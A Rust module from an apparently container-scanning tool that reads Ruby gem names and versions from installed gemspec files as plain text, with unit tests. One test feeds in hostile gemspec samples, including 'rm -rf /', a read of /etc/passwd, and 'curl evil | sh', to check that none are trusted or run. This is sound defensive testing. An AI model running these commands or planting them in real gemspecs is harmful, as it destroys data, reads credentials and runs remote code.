//! Installed Ruby gems.
//!
//! Files: the specifications RubyGems writes for every installed gem,
//! `**/specifications/<name>-<version>[-<platform>].gemspec` and the default gems'
//! `**/specifications/default/*.gemspec`, wherever the gem home is: RubyGems' own
//! (`usr/lib/ruby/gems/<v>/`, `usr/local/lib/ruby/gems/<v>/`, `usr/local/bundle/`), Bundler's
//! `vendor/bundle/ruby/<v>/`, Debian's rubygems-integration
//! (`usr/share/rubygems-integration/all/`, `usr/lib/<triplet>/rubygems-integration/<v>/`).
//! A gem's own source gemspec (at its root, or Bundler's `bundler/gems/<repo>/x.gemspec`) is
//! not a `specifications/` directory and is not read.
//!
//! A gemspec is Ruby, and is never executed: the name and version are read, as syft does, from
//! the first `<var>.name = ...` and `<var>.version = ...` lines whose value is a plain string
//! literal (`"x"` or `'x'`, optionally `.freeze`, optionally inside `Gem::Version.new(...)`),
//! which is how RubyGems writes installed specifications. A value that is anything else
//! (string interpolation `#{...}`, escapes, a method call, code after the literal) is not
//! trusted: the file is skipped with a warning, as is a file without both lines. The file name
//! is only a cross-check: when it does not start with `<name>-<version>` (a platform suffix may
//! follow), the content still wins and a warning says so.
//!
//! Files larger than 1 MiB (RubyGems' own are a few KiB) are reported as unreadable
//! (`TooLarge`).

use super::small_file::read_capped;
use super::{Analysis, Analyzer, AnalyzerError, AnalyzerWarning, FileSet, text};
use crate::scanner::advisories::matcher::{InventoryPackage, PackageKind};

const NAME: &str = "ruby";
const SUFFIX: &str = ".gemspec";
const MAX_GEMSPEC: u64 = 1024 * 1024;

/// See the module docs.
#[derive(Debug, Clone, Copy, Default)]
pub struct RubyAnalyzer;

impl Analyzer for RubyAnalyzer {
    fn name(&self) -> &'static str {
        NAME
    }

    fn version(&self) -> u32 {
        1
    }

    fn required(&self, path: &str) -> bool {
        let Some((dir, file)) = path.rsplit_once('/') else {
            return false;
        };
        let dir = dir.strip_suffix("/default").unwrap_or(dir);
        file.len() > SUFFIX.len()
            && file.ends_with(SUFFIX)
            && (dir == "specifications" || dir.ends_with("/specifications"))
    }

    fn analyze(&self, files: &FileSet) -> Result<Analysis, AnalyzerError> {
        let mut analysis = Analysis::default();
        for (path, file) in files.iter().filter(|(p, _)| self.required(p)) {
            let bytes = match read_capped(NAME, path, file, MAX_GEMSPEC) {
                Ok(bytes) => bytes,
                Err(unreadable) => {
                    analysis.unreadable.push(unreadable);
                    continue;
                }
            };
            let spec = match parse_gemspec(&text(&bytes)) {
                Ok(spec) => spec,
                Err(reason) => {
                    analysis.warnings.push(AnalyzerWarning::new(
                        NAME,
                        path,
                        format!("{reason}: skipped"),
                    ));
                    continue;
                }
            };
            let stem = path
                .rsplit('/')
                .next()
                .and_then(|f| f.strip_suffix(SUFFIX))
                .unwrap_or_default();
            let expected = format!("{}-{}", spec.name, spec.version);
            if stem != expected && !stem.starts_with(&format!("{expected}-")) {
                analysis.warnings.push(AnalyzerWarning::new(
                    NAME,
                    path,
                    format!(
                        "file name does not match the gemspec's name {:?} and version {:?}: \
                         the gemspec's are used",
                        spec.name, spec.version
                    ),
                ));
            }
            analysis.packages.push(InventoryPackage::language(
                PackageKind::RubyGems,
                spec.name,
                spec.version,
                path,
                &file.layer_digest,
            ));
        }
        Ok(analysis)
    }
}

#[derive(Debug, PartialEq, Eq)]
struct Gemspec {
    name: String,
    version: String,
}

/// The name and version of a gemspec, read as text (see the module docs).
fn parse_gemspec(text: &str) -> Result<Gemspec, String> {
    let mut name: Option<Result<String, String>> = None;
    let mut version: Option<Result<String, String>> = None;
    for line in text.lines() {
        let Some((field, value)) = attribute(line) else {
            continue;
        };
        let slot = match field {
            "name" => &mut name,
            "version" => &mut version,
            _ => continue,
        };
        if slot.is_none() {
            *slot = Some(literal_value(value).ok_or_else(|| {
                format!("{field} is not a plain string literal: {:?}", line.trim())
            }));
        }
    }
    let name = name.ok_or("no `.name = \"...\"` line")??;
    let version = version.ok_or("no `.version = \"...\"` line")??;
    if name.is_empty() || version.is_empty() {
        return Err("empty name or version".to_owned());
    }
    Ok(Gemspec { name, version })
}

/// `<identifier>.<field> = <value>` → `(field, value)`.
fn attribute(line: &str) -> Option<(&str, &str)> {
    let line = line.trim_start();
    let (receiver, rest) = line.split_once('.')?;
    let mut chars = receiver.chars();
    let starts_ok = chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_');
    if !starts_ok || !chars.all(|c| c.is_ascii_alphanumeric() || c == '_') {
        return None;
    }
    let field_end = rest
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(rest.len());
    let (field, rest) = rest.split_at(field_end);
    let value = rest.trim_start().strip_prefix('=')?;
    // `==` is a comparison, not an assignment.
    if value.starts_with('=') {
        return None;
    }
    Some((field, value.trim()))
}

/// The string a value is, when it is nothing but a literal: `"x"`, `'x'`, `"x".freeze`,
/// `Gem::Version.new("x")`, `Gem::Version.new("x".freeze)`, optionally followed by a comment.
fn literal_value(value: &str) -> Option<String> {
    let (inner, wrapped) = match value.strip_prefix("Gem::Version.new(") {
        Some(inner) => (inner, true),
        None => (value, false),
    };
    let quote = inner.chars().next().filter(|q| matches!(q, '"' | '\''))?;
    let body_and_rest = inner.get(1..)?;
    let end = body_and_rest.find(quote)?;
    let (body, rest) = body_and_rest.split_at(end);
    let rest = rest.get(1..)?;
    // No escapes, and no interpolation in double quotes: the value would not be what is written.
    if body.contains('\\') || (quote == '"' && body.contains("#{")) {
        return None;
    }
    let rest = rest.strip_prefix(".freeze").unwrap_or(rest).trim_start();
    let rest = if wrapped {
        rest.strip_prefix(')')?.trim_start()
    } else {
        rest
    };
    (rest.is_empty() || rest.starts_with('#')).then(|| body.to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scanner::analyzers::testutil::{crate_fixture, set, tree_at};

    fn run(files: &FileSet) -> Analysis {
        RubyAnalyzer.analyze(files).unwrap()
    }

    #[test]
    fn required_truth_table() {
        for (path, want) in [
            (
                "usr/lib/ruby/gems/3.1.0/specifications/rake-13.0.6.gemspec",
                true,
            ),
            (
                "usr/lib/ruby/gems/3.1.0/specifications/default/json-2.6.1.gemspec",
                true,
            ),
            (
                "usr/local/lib/ruby/gems/3.3.0/specifications/nokogiri-1.16.0-x86_64-linux.gemspec",
                true,
            ),
            (
                "app/vendor/bundle/ruby/3.2.0/specifications/rack-3.0.8.gemspec",
                true,
            ),
            (
                "usr/share/rubygems-integration/all/specifications/rack-2.2.22.gemspec",
                true,
            ),
            (
                "usr/lib/x86_64-linux-gnu/rubygems-integration/3.1.0/specifications/json-2.6.3.gemspec",
                true,
            ),
            ("specifications/x-1.gemspec", true),
            ("usr/lib/ruby/gems/3.1.0/specifications/.gemspec", false),
            (
                "usr/lib/ruby/gems/3.1.0/specifications/x-1.gemspec.bak",
                false,
            ),
            (
                "usr/lib/ruby/gems/3.1.0/specifications/sub/x-1.gemspec",
                false,
            ),
            (
                "usr/lib/ruby/gems/3.1.0/gems/rake-13.0.6/rake.gemspec",
                false,
            ),
            (
                "app/vendor/bundle/ruby/3.2.0/bundler/gems/rails-abc/rails.gemspec",
                false,
            ),
            ("app/my-specifications/x-1.gemspec", false),
            ("x-1.gemspec", false),
            ("", false),
        ] {
            assert_eq!(RubyAnalyzer.required(path), want, "{path}");
        }
    }

    /// Debian 12's `libruby3.1` (the bundled and default gems), `ruby-rack`, `ruby-minitest` and
    /// `ruby-json`, as installed (see tests/fixtures/debian-ruby/PROVENANCE.md). The expected
    /// list was written from the file names and cross-checked against each file's literal
    /// `s.name` / `s.version` lines with grep.
    #[test]
    fn debian_packages() {
        let root = crate_fixture("debian-ruby/root");
        let files = tree_at(&root);
        let a = run(&files);
        assert!(a.warnings.is_empty(), "{:?}", a.warnings);
        assert!(a.unreadable.is_empty(), "{:?}", a.unreadable);
        let expected = std::fs::read_to_string(crate_fixture("debian-ruby/expected.tsv")).unwrap();
        let want: Vec<(String, String, String)> = expected
            .lines()
            .map(|l| {
                let f: Vec<&str> = l.split('\t').collect();
                (f[0].to_owned(), f[1].to_owned(), f[2].to_owned())
            })
            .collect();
        assert_eq!(want.len(), 88);
        let got: Vec<(String, String, String)> = a
            .packages
            .iter()
            .map(|p| {
                (
                    p.name.clone(),
                    p.version.clone(),
                    p.file_path.clone().unwrap(),
                )
            })
            .collect();
        assert_eq!(got, want);
        assert!(a.packages.iter().all(|p| p.kind == PackageKind::RubyGems
            && p.layer_digest.as_deref() == Some("sha256:fixture")
            && p.owner.is_none()));
        let rack = a.packages.iter().find(|p| p.name == "rack").unwrap();
        assert_eq!(rack.version, "2.2.22");
    }

    /// syft's ruby cataloger fixtures (tests/fixtures/syft/PROVENANCE.md): `s.version = "1.1.0".freeze`
    /// and a `#{s.name}` interpolation in a field that is not read.
    #[test]
    fn syft_gemspecs() {
        let mut files = FileSet::new();
        for name in ["bundler", "formatador"] {
            let bytes = std::fs::read(crate_fixture(&format!("syft/ruby/{name}.gemspec"))).unwrap();
            let path = match name {
                "bundler" => {
                    "usr/local/lib/ruby/gems/2.7.0/specifications/default/bundler-2.1.4.gemspec"
                }
                _ => "usr/local/bundle/specifications/formatador-1.1.0.gemspec",
            };
            files.insert(path, super::super::CollectedFile::new(bytes, "sha256:l1"));
        }
        let a = run(&files);
        assert!(a.warnings.is_empty(), "{:?}", a.warnings);
        let got: Vec<(&str, &str, &str)> = a
            .packages
            .iter()
            .map(|p| {
                (
                    p.name.as_str(),
                    p.version.as_str(),
                    p.file_path.as_deref().unwrap(),
                )
            })
            .collect();
        assert_eq!(
            got,
            [
                (
                    "formatador",
                    "1.1.0",
                    "usr/local/bundle/specifications/formatador-1.1.0.gemspec"
                ),
                (
                    "bundler",
                    "2.1.4",
                    "usr/local/lib/ruby/gems/2.7.0/specifications/default/bundler-2.1.4.gemspec"
                ),
            ]
        );
    }

    #[test]
    fn literal_forms() {
        let spec = |body: &str| parse_gemspec(body);
        let ok = |name: &str, version: &str| {
            Ok(Gemspec {
                name: name.to_owned(),
                version: version.to_owned(),
            })
        };
        assert_eq!(
            spec(
                "Gem::Specification.new do |s|\n  s.name = \"a\".freeze\n  s.version = \"1.0\"\nend\n"
            ),
            ok("a", "1.0")
        );
        assert_eq!(
            spec("spec.name = 'b'\nspec.version = Gem::Version.new(\"2.0.rc1\".freeze) # pinned\n"),
            ok("b", "2.0.rc1")
        );
        assert_eq!(
            spec("  gem.name    =   \"c\"\n  gem.version = Gem::Version.new('3')\n"),
            ok("c", "3")
        );
        // Only `.name` and `.version` themselves, first assignment wins.
        assert_eq!(
            spec(
                "s.rubygems_version = \"3.3\"\ns.required_rubygems_version = \"9\"\ns.name = \"d\"\ns.version = \"4\"\ns.version = \"5\"\nif s.version == \"6\"\n"
            ),
            ok("d", "4")
        );
        assert_eq!(
            spec("s.name = \"e\"\n").unwrap_err(),
            "no `.version = \"...\"` line"
        );
        assert_eq!(spec("").unwrap_err(), "no `.name = \"...\"` line");
        assert_eq!(
            spec("s.name = \"\"\ns.version = \"1\"").unwrap_err(),
            "empty name or version"
        );
    }

    /// A gemspec is code; nothing is executed and only plain literals are believed.
    #[test]
    fn hostile_gemspecs() {
        let a = run(&set(&[
            (
                "gems/specifications/a-1.0.gemspec",
                "Gem::Specification.new do |s|\n  system(\"rm -rf /\")\n  s.name = \"a\"\n  s.version = File.read(\"/etc/passwd\").strip\nend\n",
            ),
            (
                "gems/specifications/b-1.0.gemspec",
                "s.name = \"b#{system('id')}\"\ns.version = \"1.0\"\n",
            ),
            (
                "gems/specifications/c-1.0.gemspec",
                "s.name = \"c\"\ns.version = \"1.0\"; `touch /tmp/pwned`\n",
            ),
            (
                "gems/specifications/d-1.0.gemspec",
                "s.name = \"d\\\"; exit 1; \\\"\"\ns.version = \"1.0\"\n",
            ),
            (
                "gems/specifications/e-1.0.gemspec",
                "s.name = \"e\"\ns.version = VERSION\n",
            ),
            (
                "gems/specifications/f-9.9.gemspec",
                "s.name = 'f'\ns.version = '1.0'\nsystem(\"curl evil | sh\")\n",
            ),
        ]));
        let got: Vec<(&str, &str)> = a
            .packages
            .iter()
            .map(|p| (p.name.as_str(), p.version.as_str()))
            .collect();
        assert_eq!(got, [("f", "1.0")]);
        let warnings: Vec<(&str, &str)> = a
            .warnings
            .iter()
            .map(|w| (w.path.as_str(), w.message.split(':').next().unwrap()))
            .collect();
        assert_eq!(
            warnings,
            [
                (
                    "gems/specifications/a-1.0.gemspec",
                    "version is not a plain string literal"
                ),
                (
                    "gems/specifications/b-1.0.gemspec",
                    "name is not a plain string literal"
                ),
                (
                    "gems/specifications/c-1.0.gemspec",
                    "version is not a plain string literal"
                ),
                (
                    "gems/specifications/d-1.0.gemspec",
                    "name is not a plain string literal"
                ),
                (
                    "gems/specifications/e-1.0.gemspec",
                    "version is not a plain string literal"
                ),
                (
                    "gems/specifications/f-9.9.gemspec",
                    "file name does not match the gemspec's name \"f\" and version \"1.0\""
                ),
            ]
        );
        assert_eq!(
            a.warnings[0].message,
            "version is not a plain string literal: \"s.version = File.read(\\\"/etc/passwd\\\").strip\": skipped"
        );
    }

    #[test]
    fn oversized_and_binary_files() {
        let mut files = set(&[(
            "specifications/ok-1.gemspec",
            "s.name = \"ok\"\ns.version = \"1\"\n",
        )]);
        let mut big = b"s.name = \"big\"\ns.version = \"1\"\n".to_vec();
        big.resize(1024 * 1024 + 1, b'#');
        files.insert(
            "specifications/big-1.gemspec",
            super::super::CollectedFile::new(big, "sha256:l"),
        );
        files.insert(
            "specifications/bin-1.gemspec",
            super::super::CollectedFile::new(
                b"\xff\xfe\x00s.name = \"bin\"\n\x00s.version = \"1\"\n".to_vec(),
                "sha256:l",
            ),
        );
        let a = run(&files);
        let got: Vec<&str> = a.packages.iter().map(|p| p.name.as_str()).collect();
        assert_eq!(got, ["ok"]);
        assert_eq!(a.unreadable.len(), 1);
        assert_eq!(
            (a.unreadable[0].path.as_str(), a.unreadable[0].code),
            ("specifications/big-1.gemspec", "TooLarge")
        );
        assert_eq!(a.warnings.len(), 1);
        assert_eq!(a.warnings[0].path, "specifications/bin-1.gemspec");
    }
}
